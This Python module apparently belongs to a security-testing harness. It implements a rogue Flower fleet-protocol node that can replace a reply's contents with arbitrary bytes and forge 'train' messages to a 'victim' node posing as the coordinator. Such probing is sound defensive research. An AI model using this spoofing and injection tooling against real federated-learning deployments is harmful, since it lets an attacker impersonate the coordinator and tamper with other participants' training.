"""A node that speaks Flower's fleet protocol by itself, so that it can say what no SuperNode would.

It is a real one on the wire: TLS, the node's own key, Flower's own client. What it answers, others decide.
"""

from __future__ import annotations

import dataclasses
import threading
import time
from concurrent import futures
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
from cryptography.hazmat.primitives import serialization
from flwr.app import Message, RecordDict
from flwr.app.message import make_message
from flwr.app.metadata import Metadata
from flwr.common import serde
from flwr.proto import fleet_pb2, heartbeat_pb2, message_pb2, node_pb2
from flwr.supercore.inflatable.inflatable_object import (
    get_all_nested_objects,
    get_object_id,
    get_object_tree,
    iterate_object_tree,
)
from flwr.supercore.inflatable.inflatable_utils import inflate_object_from_contents
from flwr.supercore.interceptors import RuntimeVersionHttpInterceptor
from flwr.supercore.primitives.asymmetric import public_key_to_bytes
from flwr.supernode.fleet_http_client import FleetHttpClient
from flwr.supernode.node_auth_http_interceptor import NodeAuthHttpInterceptor

COORDINATOR = 1


def read_key(path: Path) -> Any:
    """A node's private key in OpenSSH's form."""
    return serialization.load_ssh_private_key(path.read_bytes(), None)


def status_of(error: Exception) -> str:
    """What the attacker got."""
    if isinstance(error, httpx.HTTPStatusError):
        return str(error.response.status_code)
    return type(error).__name__


@dataclass
class Parts:
    """A reply taken apart: head, tree and contents, each of which can be changed before it is pushed."""

    head: Any
    tree: Any
    contents: dict[str, bytes]

    @staticmethod
    def of(reply: Message) -> Parts:
        """As a SuperNode would push it."""
        reply.metadata.__dict__["_message_id"] = reply.object_id
        head = serde.message_to_proto(
            reply if reply.has_error() else make_message(reply.metadata, content=RecordDict())
        )
        contents = {key: one.deflate() for key, one in get_all_nested_objects(reply).items()}
        return Parts(head, get_object_tree(reply), contents)

    def be_only(self, body: bytes) -> None:
        """One part with these bytes in place of all."""
        key = get_object_id(body)
        self.head.metadata.message_id = key
        self.tree, self.contents = message_pb2.ObjectTree(object_id=key), {key: body}


class Node:
    """A node of a SuperLink.

    Args:
        address: ``host:port``.
        authority: PEM of whom it trusts.
        key: its private key.
    """

    def __init__(self, address: str, authority: bytes, key: Any) -> None:
        self.public = public_key_to_bytes(key.public_key())
        self.client = FleetHttpClient.from_server_address(
            address,
            False,
            authority,
            [RuntimeVersionHttpInterceptor(component_name="SuperNode"), NodeAuthHttpInterceptor(key, key.public_key())],
        )
        self.node: Any = None
        self._over = threading.Event()

    def activate(self, seconds: float = 0.0) -> None:
        """Come online, trying so long; then keep its lease."""
        until = time.monotonic() + seconds
        while self.node is None:
            try:
                asked = fleet_pb2.ActivateNodeRequest(public_key=self.public, heartbeat_interval=30)
                self.node = node_pb2.Node(node_id=self.client.ActivateNode(asked).node_id)
            except httpx.HTTPError:
                if time.monotonic() > until:
                    raise
                time.sleep(0.5)
        threading.Thread(target=self._beat, daemon=True).start()

    def _beat(self) -> None:
        while not self._over.wait(15.0):
            try:
                self.client.SendNodeHeartbeat(
                    heartbeat_pb2.SendNodeHeartbeatRequest(node=self.node, heartbeat_interval=30)
                )
            except httpx.HTTPError:
                continue

    def pull(self) -> Message | None:
        """The next message, whole, or None."""
        answer = self.client.PullMessages(fleet_pb2.PullMessagesRequest(node=self.node))
        if not answer.messages_list:
            return None
        head, tree = answer.messages_list[0], answer.message_object_trees[0]
        contents = {}
        for part in iterate_object_tree(tree):
            asked = message_pb2.PullObjectRequest(node=self.node, run_id=head.metadata.run_id, object_id=part.object_id)
            while part.object_id not in contents:
                found = self.client.PullObject(asked)
                if found.object_available:
                    contents[part.object_id] = found.object_content
                else:
                    time.sleep(0.2)
        message = inflate_object_from_contents(head.metadata.message_id, contents)
        message.metadata.__dict__["_message_id"] = head.metadata.message_id
        self.client.ConfirmMessageReceived(
            message_pb2.ConfirmMessageReceivedRequest(
                node=self.node, run_id=head.metadata.run_id, message_object_id=head.metadata.message_id
            )
        )
        return message

    def announce(self, parts: Parts) -> Any:
        """Push the head and the tree; the answer says which parts it waits for."""
        return self.client.PushMessages(
            fleet_pb2.PushMessagesRequest(
                node=self.node,
                messages_list=[parts.head],
                message_object_trees=[parts.tree],
                clientapp_runtime_list=[0.1],
            )
        )

    def deliver(self, parts: Parts, announced: Any) -> None:
        """Push the parts."""
        for key in announced.objects_to_push:
            self.client.PushObject(
                message_pb2.PushObjectRequest(
                    node=self.node,
                    run_id=parts.head.metadata.run_id,
                    object_id=key,
                    object_content=parts.contents[key],
                    session_id=announced.session_id,
                )
            )

    def push(self, reply: Message) -> None:
        """As a SuperNode would, one part after the other."""
        parts = Parts.of(reply)
        self.deliver(parts, self.announce(parts))

    def push_at_once(self, reply: Message, count: int) -> None:
        """As a SuperNode does: so many parts at a time."""
        parts = Parts.of(reply)
        announced = self.announce(parts)
        with futures.ThreadPoolExecutor(count) as pool:
            each = [
                dataclasses.replace(parts, contents={key: parts.contents[key]}) for key in announced.objects_to_push
            ]
            list(pool.map(lambda one: self._put(one, announced), each))

    def _put(self, parts: Parts, announced: Any) -> None:
        (item,) = parts.contents.items()
        self.client.PushObject(
            message_pb2.PushObjectRequest(
                node=self.node,
                run_id=parts.head.metadata.run_id,
                object_id=item[0],
                object_content=item[1],
                session_id=announced.session_id,
            )
        )

    def instruction(self, victim: int, like: Message, content: RecordDict) -> Parts:
        """A message to another node as if it came from the coordinator."""
        head = Metadata(
            run_id=like.metadata.run_id,
            message_id="",
            src_node_id=COORDINATOR,
            dst_node_id=victim,
            reply_to_message_id="",
            group_id="injected",
            created_at=time.time(),
            ttl=60.0,
            message_type="train",
        )
        return Parts.of(make_message(head, content=content))

    def close(self) -> None:
        """Leave, so that the key may come back at once."""
        self._over.set()
        if self.node is not None:
            self.client.DeactivateNode(fleet_pb2.DeactivateNodeRequest(node_id=self.node.node_id))
        self.client.close()
